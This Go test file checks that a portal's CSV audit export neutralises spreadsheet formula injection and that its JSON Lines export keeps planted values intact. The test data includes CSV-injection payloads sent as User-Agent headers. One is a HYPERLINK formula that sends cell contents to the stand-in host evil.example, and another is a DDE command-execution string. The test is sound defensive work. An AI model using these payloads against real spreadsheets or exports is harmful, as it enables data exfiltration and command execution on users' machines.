package server

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// TestAuditCSVIsNotASpreadsheetFormula: people whose provider vouches for
// addresses that start with =, + or - sign in, and a visitor sends user
// agents that start with =, +, -, @ or a tab (HTTP carries no carriage
// return in a header) to a staff page they are refused (which is audited,
// user agent and all). In the CSV
// export no cell begins with a character a spreadsheet reads as a formula
// (OWASP's CSV injection: each such cell gets a leading '), and each value
// is there behind its quote; in the JSON Lines export every line is one
// JSON object holding the value as sent.
func TestAuditCSVIsNotASpreadsheetFormula(t *testing.T) {
	t.Parallel()
	p := newPortal(t, portalOptions{})
	sam := p.signedIn("sam@2i2c.org")
	planted := []string{}
	for _, email := range []string{"=1+2@example.org", "+1@example.org", "-2+3@example.org"} {
		p.signedIn(email)
		planted = append(planted, email)
	}
	visitor := p.signedIn("mallory@example.org")
	for _, ua := range []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"} {
		req, err := http.NewRequest(http.MethodGet, visitor.abs("/staff/requests"), nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("User-Agent", ua)
		if r := visitor.do(req); r.StatusCode != http.StatusForbidden {
			t.Fatalf("a customer on the staff queue: %d", r.StatusCode)
		}
		planted = append(planted, strings.TrimLeft(ua, "\t\r")) // a tab is not kept (portal.Printable)
	}

	rows, err := csv.NewReader(strings.NewReader(sam.get("/staff/audit/export.csv").Body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV export does not read as CSV: %v", err)
	}
	cells := map[string]bool{}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV column %s holds %q, which a spreadsheet runs as a formula", rows[0][i], cell)
			}
			cells[cell] = true
		}
	}
	for _, v := range planted {
		if !cells["'"+v] {
			t.Errorf("no CSV cell holds %q behind a quote", v)
		}
	}

	lines := strings.Split(strings.TrimSuffix(sam.get("/staff/audit/export.jsonl").Body, "\n"), "\n")
	if len(lines) != len(rows)-1 {
		t.Errorf("%d JSON lines for %d CSV rows", len(lines), len(rows)-1)
	}
	values := map[string]bool{}
	for i, line := range lines {
		var e map[string]any
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("JSON line %d is not one JSON object: %v\n%s", i+1, err, line)
		}
		for _, k := range []string{"actor", "user_agent", "subject_email"} {
			if s, ok := e[k].(string); ok {
				values[s] = true
			}
		}
	}
	for _, v := range planted {
		if !values[v] {
			t.Errorf("no JSON line holds %q as sent", v)
		}
	}
}
